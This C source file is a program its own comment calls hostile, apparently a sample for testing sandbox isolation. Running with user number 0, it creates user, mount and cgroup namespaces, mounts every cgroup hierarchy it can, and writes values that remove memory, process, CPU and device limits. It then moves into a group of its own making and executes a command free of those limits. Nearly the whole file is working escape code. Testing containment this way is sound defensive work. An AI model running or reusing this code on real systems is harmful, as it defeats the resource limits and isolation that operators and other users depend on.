/*
 * escape [-n] COMMAND [ARG...]: a hostile program with user number 0. Makes user, cgroup and mount
 * namespaces of its own, mounts every cgroup hierarchy it can there, lifts every limit in every group
 * it finds, moves itself into groups of its own making, and executes COMMAND, which then uses what no
 * limit forbids any more. -n: without a new user namespace, with the privileges it has.
 *
 * One line "escape: mounted N, wrote N" goes to stderr, so that a test sees that it could try at all.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int mounted, wrote;

static int write_text(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOFOLLOW);
    ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

    if (fd >= 0)
        close(fd);
    return n == (ssize_t)strlen(text) ? 0 : -1;
}

/* What lifts a limit, in both versions; the order is that of raising. */
static const struct {
    const char *file, *text;
} lifts_table[] = {
    { "memory.memsw.limit_in_bytes", "-1" },
    { "memory.limit_in_bytes", "-1" },
    { "memory.swap.max", "max" },
    { "memory.max", "max" },
    { "memory.high", "max" },
    { "memory.oom.group", "0" },
    { "memory.oom_control", "1" },
    { "pids.max", "max" },
    { "cpu.cfs_quota_us", "-1" },
    { "cpu.max", "max 100000" },
    { "cpu.shares", "262144" },
    { "cpu.weight", "10000" },
    { "cpuset.cpus", "0-1" },
    { "devices.allow", "a" },
    { "cgroup.max.depth", "max" },
    { "cgroup.subtree_control", "+memory +pids +cpu" },
};

static void lift_limits(const char *dir)
{
    char path[512];

    for (size_t i = 0; i < sizeof(lifts_table) / sizeof(lifts_table[0]); i++) {
        snprintf(path, sizeof(path), "%s/%s", dir, lifts_table[i].file);
        if (write_text(path, lifts_table[i].text) == 0)
            wrote++;
    }
}

/* A hierarchy at DIR: its root, what the root's parent would be, and a new group to go into. */
static void attack(const char *dir)
{
    char path[512];

    lift_limits(dir);
    snprintf(path, sizeof(path), "%s/..", dir);
    lift_limits(path);
    snprintf(path, sizeof(path), "%s/ration-free", dir);
    if (mkdir(path, 0755) < 0)
        return;
    wrote++;
    lift_limits(path);
    snprintf(path, sizeof(path), "%s/ration-free/cgroup.procs", dir);
    if (write_text(path, "0") == 0)
        wrote++;
}

static void mount_and_attack(const char *type, const char *options, const char *name)
{
    char dir[256];

    snprintf(dir, sizeof(dir), "/tmp/%s", name);
    mkdir(dir, 0755);
    if (mount("none", dir, type, 0, options) < 0)
        return;
    mounted++;
    attack(dir);
}

static void become_root_of_own(void)
{
    char map[64];
    unsigned uid = getuid(), gid = getgid();

    if (unshare(CLONE_NEWUSER) < 0) {
        fprintf(stderr, "escape: no user namespace: %s\n", strerror(errno));
        return;
    }
    snprintf(map, sizeof(map), "0 %u 1", uid);
    write_text("/proc/self/uid_map", map);
    write_text("/proc/self/setgroups", "deny");
    snprintf(map, sizeof(map), "0 %u 1", gid);
    write_text("/proc/self/gid_map", map);
}

int main(int argc, char **argv)
{
    static const char *const controllers[] = { "memory",  "pids",        "cpu",     "cpuset",
                                               "devices", "cpu,cpuacct", "freezer", "blkio" };
    int privileged = argc > 1 && strcmp(argv[1], "-n") == 0;

    argv += 1 + privileged;
    if (!argv[0]) {
        fputs("escape [-n] COMMAND [ARG...]\n", stderr);
        return 2;
    }
    if (!privileged)
        become_root_of_own();
    if (unshare(CLONE_NEWNS) < 0)
        fprintf(stderr, "escape: no mount namespace: %s\n", strerror(errno));
    else
        mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
    /* What is mounted already is tried before and after it is hidden behind a namespace of our own. */
    attack("/sys/fs/cgroup");
    attack("/sys/fs/cgroup/memory");
    if (unshare(CLONE_NEWCGROUP) < 0)
        fprintf(stderr, "escape: no cgroup namespace: %s\n", strerror(errno));
    if (mount("none", "/tmp", "tmpfs", 0, NULL) < 0)
        fprintf(stderr, "escape: no tmpfs: %s\n", strerror(errno));
    mount_and_attack("cgroup2", NULL, "unified");
    for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); i++)
        mount_and_attack("cgroup", controllers[i], controllers[i]);
    fprintf(stderr, "escape: mounted %d, wrote %d\n", mounted, wrote);
    umount2("/tmp", MNT_DETACH);
    execvp(argv[0], argv);
    fprintf(stderr, "escape: %s: %s\n", argv[0], strerror(errno));
    return 3;
}
